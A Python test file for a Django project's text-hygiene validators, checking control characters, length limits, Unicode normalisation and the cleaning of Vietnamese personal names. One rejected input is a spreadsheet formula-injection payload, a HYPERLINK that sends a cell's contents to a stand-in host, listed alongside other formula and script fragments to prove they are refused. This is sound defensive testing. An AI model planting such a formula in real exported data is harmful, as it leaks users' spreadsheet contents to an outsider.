"""The text-hygiene rules every form and importer shares (issue 15)."""

import unicodedata

import pytest
from django.core.exceptions import ValidationError
from hocvuso.core.text import FORMULA_START, person_name_clean, text_clean
from hypothesis import given
from hypothesis import strategies as st

from tests.hocvuso.text_strategies import person_names


def message(exc: ValidationError) -> str:
    return " ".join(exc.messages)


@pytest.mark.parametrize("char", ["\x00", "\x07", "\x1b", "\x7f", "\x85", "\x9f"])
def test_text_clean_refuses_control_characters_naming_the_field(char):
    with pytest.raises(ValidationError) as caught:
        text_clean(f"Thôn{char}Một", field="Tên thôn", max_length=100)
    assert "Tên thôn" in message(caught.value)
    assert "ký tự điều khiển" in message(caught.value)


def test_text_clean_refuses_tab_and_newline_in_a_single_line():
    for value in ("Thôn\tMột", "Thôn\nMột"):
        with pytest.raises(ValidationError):
            text_clean(value, field="Tên thôn", max_length=100)


def test_text_clean_keeps_line_breaks_and_tabs_when_multiline():
    value = text_clean(
        "Dòng một\r\n\tDòng hai\n", field="Giải thích", max_length=100, multiline=True
    )
    assert value == "Dòng một\n\tDòng hai"


def test_text_clean_refuses_over_long_text_naming_the_field():
    with pytest.raises(ValidationError) as caught:
        text_clean("a" * 11, field="Câu hỏi", max_length=10)
    assert "Câu hỏi" in message(caught.value)
    assert "tối đa 10 ký tự" in message(caught.value)


def test_text_clean_trims_and_composes_to_nfc():
    decomposed = unicodedata.normalize("NFD", "  Nguyễn Văn Ấn ")
    assert text_clean(decomposed, field="x", max_length=20) == "Nguyễn Văn Ấn"


@given(st.text(max_size=60))
def test_text_clean_output_is_clean_or_it_refuses(value):
    try:
        out = text_clean(value, field="x", max_length=40)
    except ValidationError:
        return
    assert out == out.strip()
    assert unicodedata.is_normalized("NFC", out)
    assert len(out) <= 40
    assert not any(unicodedata.category(c) in ("Cc", "Cs") for c in out)


@pytest.mark.parametrize(
    "name",
    ["Nguyễn Văn An", "H'Hen Niê", "Lê Thị T. Hoa", "Y Moan Ênuôl", "Ksor H’Bia"],
)
def test_person_name_clean_accepts_real_names(name):
    assert person_name_clean(name) == name


def test_person_name_clean_folds_spaces():
    assert person_name_clean("  Nguyễn \u00a0 Văn   An ") == "Nguyễn Văn An"


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://x.example/?leak="&B8,"Bấm")',
        "+84901000001",
        "-Nguyễn",
        "@SUM(A1)",
        "'=1+1",
        "Nguyễn Văn 2",
        "An <script>",
        "Nguyễn\x00An",
    ],
)
def test_person_name_clean_refuses_formulas_digits_and_symbols(name):
    with pytest.raises(ValidationError):
        person_name_clean(name)


def test_person_name_clean_requires_a_name():
    with pytest.raises(ValidationError) as caught:
        person_name_clean("   ")
    assert message(caught.value) == "Vui lòng nhập họ và tên."


@given(person_names())
def test_person_name_clean_accepts_every_generated_name(name):
    assert person_name_clean(name) == " ".join(name.split())


@given(st.text(max_size=40))
def test_person_name_clean_never_returns_a_formula_start(value):
    try:
        out = person_name_clean(value)
    except ValidationError:
        return
    assert out and not out.startswith(FORMULA_START)
    assert out[0].isalpha()
